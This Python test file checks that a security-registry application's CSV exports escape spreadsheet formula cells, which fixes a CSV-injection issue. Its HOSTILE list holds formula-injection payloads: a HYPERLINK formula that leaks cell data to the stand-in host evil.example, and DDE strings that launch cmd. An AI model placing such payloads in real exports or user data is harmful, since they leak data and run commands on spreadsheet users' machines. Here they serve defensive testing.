"""Issue 14: registry names starting with `=` went unescaped into the CSV exports, where a spreadsheet
runs them as formulas (OWASP CSV injection). Every text cell starting with = + - @ tab or CR is
written with a leading `'`; the registry's CSV still imports back to what was exported."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from fastapi.testclient import TestClient

from api.auth.deps import Role
from api.auth.service import create_api_token
from api.coverage.jobs import CoverageJob
from api.registry import service
from api.reports.cells import escape, unescape
from soc_core.registry import InformationSystem, LogSource, Registry, Unit
from soc_core.store import Store
from socpipe.app import create_app
from tests.backends import app_context

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_escape_marks_formulas_keeps_numbers_and_reverses_exactly() -> None:
    for value in HOSTILE:
        assert escape(value) == "'" + value
    assert [escape(v) for v in ("-5", "+3.25", "1e3", "plain", "", 7, None)] == [
        "-5",
        "+3.25",
        "1e3",
        "plain",
        "",
        7,
        None,
    ]
    for value in [*HOSTILE, "'=already quoted", "'plain", "''=x", "-5", "it's"]:
        assert unescape(str(escape(value))) == value


def test_registry_and_coverage_csv_exports_escape_formula_cells(store: Store) -> None:
    registry = Registry(
        units=[Unit(id="u1", name=HOSTILE[0], kind="department")],
        systems=[InformationSystem(id="s1", name=HOSTILE[1], unit_id="u1", level=3, important=True)],
        sources=[LogSource(id="src1", system_id="s1", name=HOSTILE[3], format="ecs", token="t" * 32)],
    )
    store.save_registry(registry)
    ctx = app_context(store)
    CoverageJob(store, ctx.backend.coverage).run(now=datetime.now(UTC))
    token, _ = create_api_token(store=store, name="admin", role=Role.ADMIN, actor="test")
    headers = {"Authorization": f"Bearer {token}"}
    client = TestClient(create_app(ctx))

    exported = {
        kind: client.get(f"/api/v1/registry/export?format=csv&kind={kind}", headers=headers).text
        for kind in ("units", "systems", "sources")
    }
    coverage = client.get("/api/v1/coverage/export.csv", headers=headers).text
    for text in [*exported.values(), coverage]:
        assert not [cell for cell in _cells(text) if _formula(cell)], text
    assert "'" + HOSTILE[0] in _cells(exported["units"])
    assert "'" + HOSTILE[0] in _cells(coverage) and "'" + HOSTILE[1] in _cells(coverage)

    # what was exported imports back unchanged
    again = service.parse_csv("units", exported["units"])
    assert again.units[0].name == HOSTILE[0]
    assert service.parse_csv("systems", exported["systems"]).systems[0].name == HOSTILE[1]
